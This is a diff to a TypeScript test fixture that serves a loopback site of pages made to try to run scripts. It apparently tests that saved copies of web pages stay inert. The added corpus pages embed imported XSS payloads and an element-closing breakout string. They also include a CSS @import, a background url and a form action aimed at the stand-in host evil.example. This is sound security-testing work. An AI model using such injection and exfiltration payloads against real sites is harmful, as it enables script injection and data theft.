@@ -1,5 +1,5 @@
 import { type HttpServer, scriptPayloads, startHttpServer } from "@satchel/testing";
-import { HOSTILE_SVG, hostilePage } from "./hostile-texts.ts";
+import { HOSTILE_SVG, hostilePage, hostileTexts } from "./hostile-texts.ts";
 
 const SVG = "image/svg+xml";
 /** A page with a script payload as its title, escaped (even numbers) or not. */
@@ -8,6 +8,27 @@ function payloadPage(number: number): string {
   const written = number % 2 === 0 ? text.replaceAll(/[&<>"']/g, (sign) => `&#${sign.charCodeAt(0)};`) : text;
   return `<!doctype html><meta charset="utf-8"><title>${written}</title><meta name="description" content="${written}">
 <meta property="og:site_name" content="${written}"><meta name="keywords" content="${written}"><h1>${written}</h1>`;
+}
+
+/** Ends of the elements in which what follows would be no markup. */
+const ENDINGS = "</script></style></textarea></title></xmp></noscript></template></select></svg></math>-->]]>";
+
+/** Texts of one page: more of them, never closed, would be nested too deep to be an ordinary page. */
+const CORPUS_TEXTS = 60;
+const corpus = [...hostileTexts, ...scriptPayloads];
+
+/** Pages that have all hostile texts and script payloads together, each as markup in the page and in an attribute. */
+export const CORPUS_PAGES = Math.ceil(corpus.length / CORPUS_TEXTS);
+
+/** A page to be kept, with so many of them, behind more text than in which a refresh is searched. */
+function corpusPage(number: number): string {
+  const texts = corpus.slice(number * CORPUS_TEXTS, (number + 1) * CORPUS_TEXTS);
+  const words = "Words of an article, with commas, that go on for a while about tides, the moon, and the harbour. ";
+  const parts = texts.map((text) => `<p>${words.repeat(2)}</p><div title="${text}">${text}${ENDINGS}</div>`);
+  return `<!doctype html><html lang="en"><meta charset="utf-8"><title>Corpus ${number}</title>
+<style>@import '//evil.example/x.css';h1{background:url(//evil.example/y)}</style>
+<form action="//evil.example/" id="sent"><input name="a"><button>Send</button></form>
+<article><h1>Corpus ${number}</h1><p>${words.repeat(200)}</p>${parts.join("\n")}</article>`;
 }
 
 /** 64 × 64 px, brass. */
@@ -29,7 +50,8 @@ const page = (title: string): string => `<!doctype html>
 
 /**
  * A web site on loopback: `/pages/<title>` is a page of that title, with picture and icon, and `/moved/<title>` redirects to
- * it. `/hostile/<number>`, `/raw/<number>` and `/payload/<number>/…` are pages that try to run scripts where they are shown.
+ * it. `/hostile/<number>`, `/raw/<number>` and `/payload/<number>/…` are pages that try to run scripts where they are shown, and
+ * `/corpus/<number>` where a copy of them is.
  */
 export const startSite = (): Promise<HttpServer> =>
   startHttpServer((request, response) => {
@@ -38,6 +60,7 @@ export const startSite = (): Promise<HttpServer> =>
     const path = pathname.startsWith("/payload/") ? pathname : decodeURIComponent(pathname);
     const send = (type: string, body: string | Buffer) => response.writeHead(200, { "content-type": type }).end(body);
     if (path.startsWith("/pages/")) send("text/html; charset=utf-8", page(path.slice("/pages/".length)));
+    else if (path.startsWith("/corpus/")) send("text/html; charset=utf-8", corpusPage(Number(path.slice(8))));
     else if (path.startsWith("/payload/")) send("text/html", payloadPage(Number.parseInt(path.slice(9), 10)));
     else if (path.startsWith("/moved/"))
       response.writeHead(302, { location: `/pages/${encodeURIComponent(path.slice("/moved/".length))}` }).end();
